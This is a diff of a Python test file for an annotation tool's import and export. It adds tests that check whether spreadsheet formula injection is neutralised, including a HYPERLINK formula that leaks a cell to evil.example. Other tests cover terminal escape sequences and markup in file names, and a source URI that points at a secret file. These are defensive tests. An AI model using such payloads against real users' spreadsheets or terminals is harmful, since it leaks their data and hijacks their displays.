@@ -10,10 +10,9 @@ import io
 import json
 from pathlib import Path
 
-import pytest
+from exchange_support import stores
 from hypothesis import given, settings
 
-from exchange_support import stores
 from tui.annotations.exchange.export import CSV_FIELDS, export_text
 from tui.annotations.model import Annotation, Quote
 
@@ -40,7 +39,7 @@ def _annotation(**changes: object) -> Annotation:
 
 def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
     hostile = _annotation(
-        id="=HYPERLINK(\"http://evil.example/?\"&K2)",
+        id='=HYPERLINK("http://evil.example/?"&K2)',
         note="=1+1",
         label="+cmd",
         quote=Quote("-2+3", "@SUM(A1)", "\tx"),
@@ -63,3 +62,122 @@ def test_no_csv_text_cell_starts_a_formula(store: tuple) -> None:
         for name, cell in zip(CSV_FIELDS, row, strict=True):
             if name not in ("start", "end", "group"):  # numbers stay numbers
                 assert not cell.startswith(FORMULA_STARTS), (name, cell)
+
+
+# -- 3. imported strings; 5. imported paths are labels -------------------------------------------
+
+ESCAPE = "\x1b]0;pwned\x07"
+
+
+def _w3c_file(
+    folder: Path, source_uri: str, note: str = "", label: str = "claim", exact: str = "root" + ESCAPE
+) -> Path:
+    item = {
+        "@context": "http://www.w3.org/ns/anno.jsonld",
+        "id": "urn:uuid:" + "1" * 32,
+        "type": "Annotation",
+        "created": "2026-01-01T00:00:00Z",
+        "modified": "2026-01-01T00:00:00Z",
+        "body": [
+            {"type": "TextualBody", "purpose": "tagging", "value": label},
+            {"type": "TextualBody", "purpose": "commenting", "value": note},
+        ],
+        "target": {
+            "type": "SpecificResource",
+            "source": source_uri,
+            "selector": [
+                {"type": "TextQuoteSelector", "exact": exact},
+                {"type": "TextPositionSelector", "start": 0, "end": len(exact)},
+            ],
+        },
+    }
+    path = folder / "in.jsonld"
+    path.write_text(json.dumps(item), encoding="utf-8")
+    return path
+
+
+def test_imported_strings_have_their_control_characters_made_visible(tmp_path: Path) -> None:
+    from tui.annotations.exchange.importer import read_import
+
+    imported = read_import(_w3c_file(tmp_path, "file:///tmp/x.txt", note=ESCAPE + "\nnext", label=ESCAPE))
+    (annotation,) = imported.annotations
+    for text in (annotation.note, annotation.label, annotation.quote.exact, annotation.source):
+        assert "\x1b" not in text and "\x07" not in text
+    assert annotation.note.endswith("\nnext")  # a note's own line breaks stay
+    assert "␛]0;pwned␇" in annotation.label
+
+
+def test_export_to_stdout_carries_no_escape_from_an_imported_file(tmp_path: Path) -> None:
+    from exchange_support import run
+
+    store = tmp_path / "store.json"
+    assert (
+        run(
+            "import",
+            str(_w3c_file(tmp_path, "file:///x.txt", note=ESCAPE)),
+            "--store",
+            str(store),
+            cwd=tmp_path,
+        ).returncode
+        == 0
+    )
+    for fmt in ("md", "csv"):
+        result = run("export", "--format", fmt, "--store", str(store), cwd=tmp_path)
+        assert result.returncode == 0, result.stderr
+        assert "\x1b" not in result.stdout + result.stderr
+
+
+def test_an_imported_w3c_source_path_is_never_read_by_an_export(tmp_path: Path) -> None:
+    from exchange_support import run
+
+    secret = tmp_path / "secret.txt"
+    secret.write_text("The private key is hunter2. Nobody must see it.\n", encoding="utf-8")
+    store = tmp_path / "store.json"
+    imported = _w3c_file(tmp_path, secret.as_uri(), exact="The private key")
+    assert run("import", str(imported), "--store", str(store), cwd=tmp_path).returncode == 0
+    result = run("export", "--format", "md", "--store", str(store), cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert "hunter2" not in result.stdout
+
+
+# -- 4. file names are data: no escape, no markup -------------------------------------------------
+
+HOSTILE_NAME = "[@click=app.quit]x\x1b]0;pwned\x07"
+
+
+def _folder_with_hostile_name(tmp_path: Path) -> Path:
+    from tui.resources import seeds_dir
+
+    folder = tmp_path / "articles"
+    folder.mkdir()
+    for seed in sorted(seeds_dir().iterdir())[:2]:
+        (folder / seed.name).write_bytes(seed.read_bytes())
+    (folder / f"{HOSTILE_NAME}.txt").write_text("", encoding="utf-8")  # empty: a "Skipped" toast
+    return folder
+
+
+async def test_a_hostile_file_name_reaches_a_toast_as_plain_visible_text(tmp_path: Path) -> None:
+    from reader_support import SIZE, loaded, make_app
+
+    app = make_app([_folder_with_hostile_name(tmp_path)])
+    async with app.run_test(size=SIZE) as pilot:
+        await loaded(pilot)
+        skipped = [n for n in app._notifications if n.title == "Skipped"]
+        assert skipped
+        for notification in app._notifications:
+            assert not notification.markup
+            assert "\x1b" not in notification.message + notification.title
+        assert any("[@click=app.quit]x␛]0;pwned␇" in n.message for n in skipped)
+
+
+def test_align_table_prints_no_escape_from_a_file_name(tmp_path: Path) -> None:
+    from exchange_support import run
+
+    folder = _folder_with_hostile_name(tmp_path)
+    from tui.resources import seeds_dir
+
+    (folder / f"{HOSTILE_NAME}.txt").write_bytes(sorted(seeds_dir().iterdir())[3].read_bytes())
+    result = run("align", "--format", "table", str(folder), cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert "\x1b]" not in result.stdout + result.stderr
+    assert "x␛]0;pwned␇" in result.stdout
